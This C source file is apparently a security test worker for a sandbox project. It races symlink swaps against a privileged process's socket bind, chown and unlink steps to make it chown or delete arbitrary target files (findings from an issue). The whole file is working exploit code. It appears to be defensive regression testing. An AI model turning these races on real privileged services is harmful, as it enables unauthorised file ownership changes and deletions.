/*
 * cz-pathrace: a worker that attacks the primary through unix socket paths
 * (issue 12, findings 1 and 2).  Run it under the launcher with --user, in
 * a directory its user owns; it binds through the shim, so the primary
 * makes and removes the socket files.
 *
 *   cz-pathrace chown DIR TARGET ROUNDS
 *       binds and closes DIR/x.sock ROUNDS times while a second thread
 *       renames a symlink to TARGET into its place as soon as the socket
 *       file appears: a primary that chowns the path after binding it
 *       chowns TARGET.
 *   cz-pathrace unlink DIR TARGETDIR
 *       binds DIR/sub/x.sock, renames DIR/sub away, puts a symlink to
 *       TARGETDIR in its place, closes: a primary that unlinks the path by
 *       name deletes TARGETDIR/x.sock.
 *
 * Prints "bound N swapped M" (chown) or "swapped" (unlink), exits 0; any
 * failure of its own is one line on stderr and exit 1.
 */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static atomic_bool stop;
static atomic_long swaps;
static char sock_path[120], link_path[128];
static const char *target;

static void die(const char *what)
{
	fprintf(stderr, "cz-pathrace: %s: %s\n", what, strerror(errno));
	exit(1);
}

static int bind_unix(const char *path)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0) {
		die("socket");
	}
	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", path);
	if (bind(fd, (struct sockaddr *)&sun, sizeof(sun)) < 0) {
		close(fd);
		return -errno;
	}
	return fd;
}

/* As soon as the primary has made the socket file, a symlink replaces it. */
static void *swapper(void *arg)
{
	struct stat st;

	(void)arg;
	if (symlink(target, link_path) < 0 && errno != EEXIST) {
		die("symlink");
	}
	while (!atomic_load(&stop)) {
		if (lstat(sock_path, &st) < 0 || !S_ISSOCK(st.st_mode) ||
		    rename(link_path, sock_path) < 0) {
			continue;
		}
		atomic_fetch_add(&swaps, 1);
		if (symlink(target, link_path) < 0 && errno != EEXIST) {
			die("symlink");
		}
	}
	return NULL;
}

static int chown_race(const char *dir, const char *tgt, long rounds)
{
	pthread_t t;
	long bound = 0;

	target = tgt;
	snprintf(sock_path, sizeof(sock_path), "%s/x.sock", dir);
	snprintf(link_path, sizeof(link_path), "%s/l", dir);
	if (pthread_create(&t, NULL, swapper, NULL) != 0) {
		die("pthread_create");
	}
	for (long i = 0; i < rounds; i++) {
		unlink(sock_path);
		int fd = bind_unix(sock_path);

		if (fd >= 0) {
			bound++;
			close(fd);
		}
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	printf("bound %ld swapped %ld\n", bound, atomic_load(&swaps));
	return 0;
}

static int unlink_swap(const char *dir, const char *targetdir)
{
	char sub[100], moved[128], path[120];
	int fd;

	snprintf(sub, sizeof(sub), "%s/sub", dir);
	snprintf(moved, sizeof(moved), "%s/sub.old", dir);
	snprintf(path, sizeof(path), "%s/x.sock", sub);
	fd = bind_unix(path);
	if (fd < 0) {
		errno = -fd;
		die("bind");
	}
	if (rename(sub, moved) < 0) {
		die("rename");
	}
	if (symlink(targetdir, sub) < 0) {
		die("symlink");
	}
	close(fd);
	printf("swapped\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 5 && strcmp(argv[1], "chown") == 0) {
		return chown_race(argv[2], argv[3], atol(argv[4]));
	}
	if (argc == 4 && strcmp(argv[1], "unlink") == 0) {
		return unlink_swap(argv[2], argv[3]);
	}
	fprintf(stderr, "usage: cz-pathrace chown DIR TARGET ROUNDS | "
		"unlink DIR TARGETDIR\n");
	return 2;
}
